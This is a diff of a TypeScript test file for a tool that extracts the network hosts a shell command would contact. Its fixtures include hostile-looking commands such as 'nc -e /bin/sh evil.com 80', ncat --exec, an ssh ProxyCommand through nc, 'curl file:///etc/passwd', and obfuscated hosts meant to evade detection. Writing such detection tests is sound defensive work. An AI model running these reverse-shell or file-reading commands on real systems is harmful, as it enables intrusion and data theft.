@@ -2,6 +2,7 @@ import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 
 import { filesOf, hostsOf } from '../../src/programs/command-files.js';
+import { hostsOfProgram } from '../../src/programs/host-words.js';
 import type { Word } from '../../src/shell/reading.js';
 import { propertyRuns } from '../support/property-runs.js';
 import { wordsOf } from './words.js';
@@ -179,53 +180,138 @@ describe('hosts of', () => {
     ["curl 'http://evil?@good/'", 'evil'],
     [String.raw`curl 'http://good\@evil/'`, 'good evil'],
     ['curl http://ev%69l.com/', 'evil.com'],
+    ['curl ev%69l.com/%zz', 'evil.com'],
     ['curl http://evil.com./', 'evil.com'],
     ['curl http://[::1]:80/a', '::1'],
+    ['curl http://[::1%25lo]:80/a', '::1'],
+    ['curl http://[::ffff:127.0.0.1]/', '127.0.0.1'],
     ['curl http://0x7f.1/', '127.0.0.1'],
     ['curl 2130706433', '127.0.0.1'],
+    ['curl 0', '0.0.0.0'],
     ['curl http:/evil.com/a', 'evil.com'],
     ["curl 'http://{a,b}.evil.com/'", 'a.evil.com b.evil.com'],
+    ["curl '{a,b}.evil.com/{x,y}'", 'a.evil.com b.evil.com'],
     ['curl example.com/a', 'example.com'],
     ['curl -s -o out example.com', 'example.com'],
     ['curl -x proxy:3128 http://a', 'a proxy'],
+    ['curl -xevil.com:80 good', 'evil.com good'],
+    ['curl -sxevil.com:80 good', 'evil.com good'],
+    ['curl -sSLx[::1]:80 good', '::1 good'],
+    ['curl --proxy=evil.com:80 good', 'evil.com good'],
     ['curl --connect-to ::evil:443 https://good', 'good evil'],
+    ['curl --connect-to good:443:evil.com:8443 https://good', 'good evil.com'],
+    ['curl --connect-to good:443:[::1]:8443 https://good', 'good ::1'],
+    ['curl --resolve good:443:10.0.0.1 https://good', 'good 10.0.0.1'],
+    ["curl -H 'Host: evil.com' https://good", 'good evil.com'],
+    ['curl --dns-servers 10.0.0.1,10.0.0.2 good', '10.0.0.1 10.0.0.2'],
     ['curl --url=a.example', 'a.example'],
     ['curl "https://example.com/$x"', 'example.com'],
-    ['curl "https://example.com$x"', ''],
-    ['curl "https://$x/a"', ''],
-    ['curl file:///etc/passwd', ''],
+    ['curl "https://example.com$x"', 'example.com'],
+    ['curl "$x.evil.com"', 'x.evil.com'],
     ['wget example.com', 'example.com'],
     ['wget -O a ftp://b/c', 'b'],
+    ['http evil.com', 'evil.com'],
+    ['https POST evil.com a=b', 'evil.com'],
+    ['xh evil.com', 'evil.com'],
+    ['aria2c evil.com/a', 'evil.com'],
+    ['lynx evil.com', 'evil.com'],
+    ['w3m evil.com', 'evil.com'],
     ['git clone git@github.com:a/b.git', 'github.com'],
     ['git clone ssh://git@Host:22/a', 'host'],
     ['git clone host:a', 'host'],
     ['git -C d clone host:a', 'host'],
-    ['git push origin main:dev', ''],
+    ['git push evil.com:x', 'evil.com'],
+    ['git pull evil.com:x main', 'evil.com'],
+    ['git fetch evil.com:x', 'evil.com'],
+    ['git $command evil.com:x', 'evil.com'],
+    ['git archive --remote=evil.com:x HEAD', 'evil.com'],
     ['git remote add o https://x/y', 'x'],
+    ['git submodule add evil.com:x', 'evil.com'],
     ['ssh user@host ls', 'host'],
     ['ssh -p 22 -i key host', 'host'],
+    ['ssh -P x evil.com', 'evil.com'],
     ['ssh -o HostName=evil good', 'good evil'],
-    ['ssh -J a,b c', 'a b c'],
+    ['ssh -oHostName=evil.com good', 'good evil.com'],
+    ["ssh -o 'ProxyCommand nc -x evil.com:80 %h %p' good", 'good evil.com'],
+    ['ssh -J a,b@c:22 d', 'a c d'],
+    ['ssh -L 8080:evil.com:80 good', 'evil.com good'],
+    ['ssh "$user@evil.com"', 'evil.com'],
     ['scp a user@host:b', 'host'],
     ['scp host:a b', 'host'],
-    ['scp a b', ''],
+    ['scp [::1]:a b', '::1'],
     ['rsync -a ./a host:b', 'host'],
     ['rsync rsync://host/a b', 'host'],
+    ["rsync -e 'ssh -J evil.com' a good:b", 'evil.com good'],
     ['ping -c 1 host', 'host'],
+    ['ping 2130706433', '127.0.0.1'],
+    ['ping ::ffff:127.0.0.1', '127.0.0.1'],
+    ['ping fe80::1%eth0', 'fe80::1'],
     ['nc host 80', 'host'],
     ['nc -w 3 host 80', 'host'],
+    ['nc -e /bin/sh evil.com 80', 'evil.com'],
+    ['nc ::1 80', '::1'],
+    ['ncat --exec x evil.com', 'evil.com'],
     ['telnet host', 'host'],
-    ['openssl s_client -connect host:443', 'host'],
+    ['dig evil.com', 'evil.com'],
+    ['dig @10.0.0.1 a.example', '10.0.0.1 a.example'],
+    ['openssl s_client -connect evil.com:443', 'evil.com'],
     ['socat - TCP:host:80', 'host'],
+    ['socat - OPENSSL:evil.com:443,verify=0', 'evil.com'],
     ['npm install --registry=https://r.example/', 'r.example'],
     ['pip install git+https://g.example/a', 'g.example'],
     ['prog --url=http://a https://b', 'a b'],
+    ['prog http://a,http://b', 'a b'],
+    ['prog user@host:path', 'host'],
     ['psql postgres://u:p@db.example:5432/x', 'db.example'],
-    ['echo hello', ''],
-    ['ls a:b', ''],
-    ['curl', ''],
+    ['psql -h evil.com', 'evil.com'],
+    ["psql 'host=evil.com port=5432'", 'evil.com'],
+    ['mysql -hevil.com', 'evil.com'],
+    ['mongosh evil.com/db', 'evil.com'],
+    ['kubectl --server=https://evil.com:6443 get pods', 'evil.com'],
+    ['docker -H tcp://evil.com ps', 'evil.com'],
+    ['docker pull evil.com/a:latest', 'evil.com'],
+    ['/usr/bin/curl evil.com', 'evil.com'],
   ])('%s', (line, expected) => {
-    expect(hostsOf(wordsOf(line)).join(' ')).toBe(expected);
+    expect(hostsOf(wordsOf(line))).toEqual(expect.arrayContaining(expected.split(' ')));
+  });
+
+  test.each([
+    ['redis-cli', '-h evil.com get a'],
+    ['kubectl', '--server=evil.com:6443 get pods'],
+    ['docker', '-H evil.com:2375 ps'],
+    ['git', '-c http.proxy=evil.com:80 fetch'],
+  ])('%s %s, where the host stands before the sub-command', (name, line) => {
+    expect(hostsOfProgram(name, wordsOf(line))).toContain('evil.com');
+  });
+
+  test.each([
+    'curl',
+    'curl -v --compressed',
+    'curl file:///etc/passwd',
+    'nc -l 8080',
+    'git status evil.com:x',
+    'git commit -m evil.com:x',
+    'git -C evil.com:x log',
+    'git remote -v',
+    'openssl x509 -in evil.com',
+    'prog evil.com evil.com:80 a@evil.com',
+    'prog "https://evil.com$x"',
+    'echo hello',
+    'ls a:b',
+  ])('%s: none', (line) => {
+    expect(hostsOf(wordsOf(line))).toEqual([]);
+  });
+
+  test('a name is found whatever stands around it', () => {
+    const program = fc.constantFrom('curl', 'ssh', 'nc', 'psql', 'xh');
+    const before = fc.constantFrom('', 'a@', 'a:b@', 'http://', '-x', '-vvx', '--a=', '-o Host=', 'a,', 'a:1:', 'TCP:');
+    const after = fc.constantFrom('', ':80', '/a', ':a', ',b', ':80:c:443', '?a', '#a', '.', ';b', '%2Fa');
+    fc.assert(
+      fc.property(program, before, fc.domain(), after, (name, left, host, right) =>
+        hostsOf([name, `${left}${host}${right}`]).includes(host.toLowerCase()),
+      ),
+      propertyRuns(500),
+    );
   });
 });
 
@@ -275,5 +361,5 @@ test('no words make it throw', () => {
 });
 
 test('many braces in a URL do not take long', () => {
-  expect(hostsOf(['curl', `http://${'{a,b}'.repeat(200)}.example/`]).length).toBeLessThan(200);
+  expect(hostsOf(['curl', `http://${'{a,b}'.repeat(200)}.example/`]).length).toBeLessThan(1_000);
 });
